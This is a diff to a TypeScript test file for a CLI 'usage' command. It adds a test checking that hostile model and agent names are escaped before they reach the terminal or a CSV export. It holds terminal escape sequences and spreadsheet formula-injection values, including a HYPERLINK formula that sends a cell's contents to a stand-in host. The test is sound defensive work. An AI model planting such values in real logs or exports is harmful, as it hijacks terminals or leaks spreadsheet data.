@@ -12,6 +12,9 @@ import { cliEnv, runCli, startCli, writeSettings } from '../helpers/cli.js';
 import { send } from '../helpers/http.js';
 import { freePort, startDoubles, tempDir, type Doubles } from '../helpers/stack.js';
 
+/** The control characters in `text` but newline and tab (C0, DEL, C1) and U+202E, by code: what a terminal would act on. */
+const controlsIn = (text: string) => [...text].map((c) => c.codePointAt(0)!).filter((c) => (c < 0x20 && c !== 0x0a && c !== 0x09) || (c >= 0x7f && c <= 0x9f) || c === 0x202e);
+
 const homes: string[] = [];
 let doubles: Doubles;
 before(async () => {
@@ -92,6 +95,30 @@ test('usage --csv: one row per group, with a header, by model', async () => {
     'claude-sonnet-4-5,2,0,4000,1000,300,500,1200,2500,',
     'gpt-5,1,1,0,0,,,40,40,',
   ]);
+});
+
+test('usage: names an agent or gateway chose are shown, never run: no control character reaches the terminal, no CSV field is a formula', async () => {
+  const home = await tempDir('agw-usage-hostile-');
+  homes.push(home);
+  const env = cliEnv(home);
+  await writeSettings(env, {});
+  // Records as an older proxy kept them, before it read only plain model names.
+  await appendRecords(join(env.AI_GATEWAY_HOME!, 'usage'), [
+    rec(5, { model: 'evil\u001b]0;pwned\u0007\u001b[2J' }),
+    rec(6, { model: '=HYPERLINK("http://x.test/?"&A1,"open")' }),
+    rec(7, { model: '+1+1', agent: '@SUM(1)' }),
+    rec(8, { model: '-2', agent: '\tlead' }),
+  ]);
+  for (const by of ['model', 'agent']) {
+    const text = await runCli(['usage', '--by', by, '--since', '1d'], { env });
+    assert.equal(text.code, 0, text.stderr);
+    assert.deepEqual(controlsIn(text.stdout), []);
+    if (by === 'model') assert.match(text.stdout, /evil\\x1b\]0;pwned\\x07\\x1b\[2J/);
+  }
+  const csv = (await runCli(['usage', '--csv', '--by', 'model', '--since', '1d'], { env })).stdout.trim().split('\n').map((row) => row.split(',')[0]);
+  assert.deepEqual(csv.slice(1).sort(), ["'+1+1", "'-2", '"\'=HYPERLINK(""http://x.test/?""&A1', 'evil\\x1b]0;pwned\\x07\\x1b[2J'].sort());
+  const agents = (await runCli(['usage', '--csv', '--by', 'agent', '--since', '1d'], { env })).stdout.trim().split('\n').map((row) => row.split(',')[0]);
+  assert.deepEqual(agents.slice(1).sort(), ["'@SUM(1)", "'\tlead", 'claude-code'].sort());
 });
 
 test('usage with prices.json: estimated cost per group; a broken file is refused naming its line', async () => {
